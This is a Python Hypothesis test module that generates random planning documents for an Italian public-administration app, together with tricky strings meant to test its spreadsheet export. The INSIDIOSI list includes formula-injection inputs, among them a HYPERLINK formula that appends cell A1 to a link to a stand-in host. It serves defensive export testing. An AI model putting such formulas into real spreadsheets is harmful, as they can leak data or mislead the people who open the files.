"""Whole plans of the three families at random, with the texts that trip a spreadsheet."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

from hypothesis import strategies as st

from indicatori.enums import VersoIndicatore
from indicatori.esportazione.righe import ParteScritta
from indicatori.motore.documento import (
    TESTI_PIAO,
    AzioneDati,
    CapitoloDati,
    IndicatoreDati,
    ObiettivoStrategicoDati,
    PianoDati,
    SchedaDati,
)
from obiettivi.enums import Famiglia, TavolaGenerata, TipoScheda

Chiave = tuple[str, str, int]
INSIDIOSI = [
    "=1+1",
    '=HYPERLINK("http://esempio.it?"&A1;"clic")',
    "+10%",
    "-30% budget",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=già protetto",
    "''",
    "'normale",
    "007",
    "95%",
    "95 %",
    "1,5",
    "1.000,00",
    "1E5",
    "01/02/2024",
    "2024-02-01",
    "TRUE",
    "VERO",
    "x",
    "-",
    "–",
    "  margini  ",
    "\u00a0margini\u00a0",
    " ",
    "due  spazi e\ttabulazione",
    "riga con uno spazio in fondo \n altra riga\n\nquarta",
    "prima\r\nseconda\rterza",
    '<b>&amp;</b> "virgolette" ; e , separatori',
    "]]><!--",
    "àèìòù – «virgolette» €",
    "مرحبا \u202eablep\u202c שלום",
    "👩\u200d👩\u200d👧 𝟘 🇮🇹",
    "#DIV/0!",
    "#N/D",
    "Err:502",
    "_x000D_",
    "_x0041_ _x005F_x0041_ x005F_",
    "_x0041\x01_",
    "\x01\x02\x0b\x1f\x7f\x85\u2028\ufeff\ufffe\uffff",
    "a;b; c",
    "=" * 3,
    "lungo " * 1500 + "fine",
]
CARATTERI = st.characters(exclude_categories=["Cs"], exclude_characters="\x00")
TESTI = st.sampled_from(INSIDIOSI) | st.text(CARATTERI, min_size=1, max_size=30)
FACOLTATIVI = st.just("") | TESTI
BREVI = (st.sampled_from([testo for testo in INSIDIOSI if len(testo) <= 20]) | st.text(CARATTERI, min_size=1)).map(
    lambda testo: testo[:20]
)
# A lone dash is how the sheet Indicatori says "no azione".
NUMERI = BREVI.filter(lambda testo: testo != "-")
PERCENTI = st.none() | st.decimals(0, 100, places=3).map(Decimal.normalize)
GIORNI = st.none() | st.dates(date(2000, 1, 1), date(2100, 12, 31))
ANNI = st.integers(2000, 2100)
# longer than a piece, than a cell, than a cell once it is protected; cut where a cut does not show
LUNGHI = [
    "parola " * 5_000 + "fine",
    "Paragrafo di prova.\n\n" * 1_600 + "fine",
    "(segue) " * 4_500 + "fine",
    "x" * 15_998 + "\n\n(segue) coda" + "y" * 20_000,
    "| a | b |\n" * 3_500 + "fine",
    "\n" * 20_000 + "fine",
    "_x0041_\x01" * 600,
    "🇮🇹" * 10_000,
]


def per_anno(primo: int) -> st.SearchStrategy[dict[int, str]]:
    """Texts by year, mostly of the triennio."""
    return st.dictionaries(st.integers(primo, primo + 2) | ANNI, TESTI, max_size=4)


def risultati_di(dati: PianoDati) -> st.SearchStrategy[dict[Chiave, list[ParteScritta]]]:
    """One to three parts for some of the targets of the plan."""
    chiavi = [
        (scheda.codice, voce.codice, anno)
        for scheda in dati.schede
        for voce in scheda.indicatori
        for anno in voce.previsioni
    ]
    parti = st.lists(st.builds(ParteScritta, FACOLTATIVI, FACOLTATIVI, FACOLTATIVI), min_size=1, max_size=3)
    return st.dictionaries(st.sampled_from(chiavi), parti, max_size=4) if chiavi else st.just({})


def _fino_a(massimo: int) -> st.SearchStrategy[str]:
    return FACOLTATIVI.map(lambda testo: testo[:massimo])


@st.composite
def piani(disegna: st.DrawFn, codice: str = "ente-2023-2025", ente: str = "ente") -> PianoDati:
    """A plan as the database may hold it; up to 3 schede of up to 3 azioni and 4 indicators."""
    primo = disegna(st.integers(2000, 2098))
    famiglia = disegna(st.sampled_from(Famiglia.values))
    obiettivi = [
        ObiettivoStrategicoDati(chiave, disegna(TESTI), disegna(_fino_a(200)))
        for chiave in disegna(st.lists(BREVI, max_size=3, unique=True))
    ]
    codici = disegna(st.lists(BREVI, max_size=3, unique=True))
    schede = [disegna(_schede(chiave, [voce.codice for voce in obiettivi], primo)) for chiave in codici]
    capitoli = disegna(st.lists(_CAPITOLI, max_size=3, unique_by=lambda capitolo: capitolo.chiave))
    titolo = disegna(TESTI)[:400]
    return PianoDati(codice, ente, famiglia, titolo, (primo, primo + 1, primo + 2), obiettivi, schede, capitoli)


_CAPITOLI = st.builds(
    CapitoloDati,
    numero=st.just("") | BREVI,
    titolo=TESTI.map(lambda testo: testo[:300]),
    testo=FACOLTATIVI | st.sampled_from(LUNGHI),
    tavola=st.sampled_from(["", *TavolaGenerata.values]),
)


@st.composite
def _schede(disegna: st.DrawFn, codice: str, obiettivi: list[str], primo: int) -> SchedaDati:
    numeri = disegna(st.lists(NUMERI, max_size=3, unique=True))
    anni = st.lists(ANNI | st.integers(primo, primo + 2), max_size=4, unique=True).map(lambda voci: tuple(sorted(voci)))
    azioni = [
        AzioneDati(numero, disegna(TESTI), disegna(st.booleans()), disegna(FACOLTATIVI), disegna(anni))
        for numero in numeri
    ]
    codici = disegna(st.lists(BREVI, max_size=4, unique=True))
    scelti = disegna(st.lists(st.sampled_from(obiettivi), unique=True)) if obiettivi else []
    return SchedaDati(
        codice=codice,
        titolo=disegna(TESTI),
        tipo=disegna(st.sampled_from(TipoScheda.values)),
        triennio_dichiarato=disegna(_fino_a(20)),
        responsabile=disegna(_fino_a(250)),
        altri_servizi=disegna(_fino_a(250)),
        incidenza=disegna(PERCENTI),
        obiettivi_strategici=tuple(scelti),
        testi=disegna(st.dictionaries(st.sampled_from(TESTI_PIAO), TESTI, max_size=3)),
        azioni=azioni,
        indicatori=[disegna(_indicatori(voce, numeri, primo, codici[:posto])) for posto, voce in enumerate(codici)],
    )


@st.composite
def _indicatori(
    disegna: st.DrawFn, codice: str, azioni: list[str], primo: int, precedenti: list[str]
) -> IndicatoreDati:
    strutture = st.lists(TESTI.map(lambda testo: testo[:200]), max_size=3, unique=True)
    return IndicatoreDati(
        codice=codice,
        descrizione=disegna(TESTI),
        azione=disegna(st.sampled_from(["", *azioni])),
        responsabili=disegna(_fino_a(300)),
        strutture=tuple(disegna(strutture)),
        algoritmo=disegna(FACOLTATIVI),
        baseline=disegna(_fino_a(120)),
        termine=disegna(GIORNI),
        peso=disegna(PERCENTI),
        verso=disegna(st.sampled_from(["", *VersoIndicatore.values])),
        previsioni=disegna(per_anno(primo)),
        annotazioni=disegna(per_anno(primo)),
        note=disegna(FACOLTATIVI),
        ciclico=disegna(st.booleans()),
        condizionato_da=disegna(st.sampled_from(["", *precedenti])),
    )
